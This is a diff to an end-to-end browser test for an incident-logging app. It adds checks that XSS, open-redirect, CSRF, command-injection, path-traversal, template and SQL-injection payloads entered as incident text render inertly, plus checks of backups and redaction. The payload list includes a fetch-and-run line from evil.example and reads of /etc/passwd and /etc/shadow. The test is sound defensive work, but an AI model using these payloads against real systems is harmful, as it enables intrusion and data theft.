@@ -3,7 +3,7 @@
 // Screenshots go to target/e2e-screenshots/. Every step asserts what the user would see.
 import assert from "node:assert/strict";
 import { spawn } from "node:child_process";
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join, resolve } from "node:path";
 import { Key, Session, sleep } from "./webdriver.mjs";
@@ -178,6 +178,42 @@ try {
   await s.waitFor(".row-title", { text: XSS });
   assert.equal(await s.exec("return document.querySelectorAll('img').length"), 0);
   await shot("xss-title-literal");
+
+  // ---- the seeds' bug-bounty classes (XSS, open redirect, CSRF, command/file/URL inclusion,
+  // code execution, code/database injection) stay inert text everywhere ----------------------
+  const HOSTILE = [
+    ["xss", "<script>document.title='pwned'</script>", "<svg onload=alert(3)><b onclick=alert(4)>bold</b>"],
+    ["open redirect", "https://evil.example/login?next=//evil.example", '<a href="https://evil.example/">Continue</a>'],
+    ["csrf", '<form action="https://evil.example/delete" method="post"><button>Approve</button></form>', '<img src="https://evil.example/logout">'],
+    ["inclusion", "; cat /etc/passwd # $(curl evil.example|sh)", "../../../../etc/passwd file:///etc/shadow"],
+    ["code execution", "{{7*7}} ${7*7} <%= 7*7 %>", "__proto__.polluted=1 constructor.prototype"],
+    ["injection", "' OR 1=1; DROP TABLE incidents; --", '" onmouseover="alert(5)" x="'],
+  ];
+  const page = () =>
+    s.exec(`return {
+      scripts: document.scripts.length,
+      foreign: document.querySelectorAll('img, iframe, object, embed, form[action], a[href*="evil.example"], a[href^="javascript"]').length,
+      handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
+      title: document.title,
+      href: location.href,
+      polluted: ({}).polluted === undefined ? 0 : 1,
+    }`);
+  const clean = await page();
+  assert.deepEqual([clean.foreign, clean.handlers, clean.polluted], [0, 0, 0], "the app itself has none of these");
+  for (const [cls, title, description] of HOSTILE) {
+    await quickLog(title, description);
+    await s.keys([Key.ctrl, Key.enter]);
+    await s.waitFor("#incident-title", { text: title });
+    await s.waitFor("#incident-description", { text: description });
+    assert.deepEqual(await page(), clean, `${cls}: rendered as text, nothing executed or navigated`);
+  }
+  assert.ok(!(await s.textOf("#incident-title")).includes("49"), "no template was evaluated");
+  await shot("hostile-incident-literal");
+  await s.click("#nav-register");
+  for (const [, title] of HOSTILE) await s.waitFor(".row-title", { text: title });
+  assert.deepEqual(await page(), { ...clean, href: await s.exec("return location.href") });
+  await shot("hostile-register-literal");
+  log("bug-bounty classes inert");
   log("xss checked");
 
   // ---- integrity -----------------------------------------------------------------------------
@@ -188,6 +224,54 @@ try {
   assert.match(await s.textOf("#head-hash"), /^[0-9a-f]{64}$/);
   assert.ok(Number(await s.textOf("#verify-events")) > 10);
   await shot("integrity");
+
+  // ---- scheduled encrypted backup, restore test, retention and redaction --------------------
+  const backupDir = join(dir, "backups");
+  await s.click("#nav-settings");
+  await s.waitFor("#backups");
+  await s.exec("document.querySelector('#backups').scrollIntoView()");
+  await s.waitFor("#backup-next", { text: "no folder chosen" });
+  await s.setValue("#s-backup", backupDir);
+  await s.click("#save-backup");
+  // No button pressed: the app's scheduler writes the first backup as soon as a folder is set.
+  await s.waitFor("#backup-last", { text: ".blbackup", timeout: 30000 });
+  assert.equal(readdirSync(backupDir).filter((f) => f.endsWith(".blbackup")).length, 1);
+  await s.click("#backup-test");
+  await s.waitFor("#backup-test-result", { text: "Restore test passed", timeout: 60000 });
+  await s.waitFor("#backup-last-test", { text: "passed" });
+  await shot("settings-backups", { top: false });
+  // Close one hostile incident and redact it early (an erasure request).
+  await s.click("#nav-register");
+  await s.waitFor(".row-title", { text: "; cat /etc/passwd" });
+  await s.exec("[...document.querySelectorAll('.row-title')].find((b) => b.textContent.startsWith('; cat /etc/passwd')).click()");
+  await s.waitFor("#incident-title", { text: "; cat /etc/passwd" });
+  await s.click("#move-triage");
+  await s.waitFor("#incident-status", { text: "triage" });
+  await s.click("#move-closed");
+  await s.setValue("#close-reason", "false_positive");
+  await s.exec("[...document.querySelectorAll('button.primary')].find((b) => b.textContent.trim() === 'Confirm').click()");
+  await s.waitFor("#incident-status", { text: "closed" });
+  await s.click("#nav-settings");
+  await s.waitFor("#retention");
+  await s.exec("document.querySelector('#retention').scrollIntoView()");
+  await s.waitFor("#retention-list td", { text: "; cat /etc/passwd" });
+  await s.exec("document.querySelector('#retention-list button.redact').click()");
+  await s.waitFor("#redact-confirm");
+  await s.type("#redact-reason", "Erasure request of the reporter");
+  await s.exec("document.querySelector('#redact-confirm').scrollIntoView()");
+  await shot("settings-retention-confirm", { top: false });
+  await s.click("#redact-confirm-button");
+  await s.waitFor("#retention-empty");
+  await s.click("#nav-register");
+  await s.waitFor(".row-title", { text: "(redacted)" });
+  await s.exec("[...document.querySelectorAll('.row-title')].find((b) => b.textContent === '(redacted)').click()");
+  await s.waitFor("#redacted-banner", { text: "redacted on" });
+  await s.waitFor("#incident-title", { text: "(redacted)" });
+  await shot("incident-redacted");
+  await s.click("#nav-integrity");
+  await s.click("#run-verify");
+  await s.waitFor("#verify-result", { text: "intact" });
+  log("backups and redaction done");
 
   // ---- lock, wrong then right passphrase --------------------------------------------------
   await s.click("#lock");
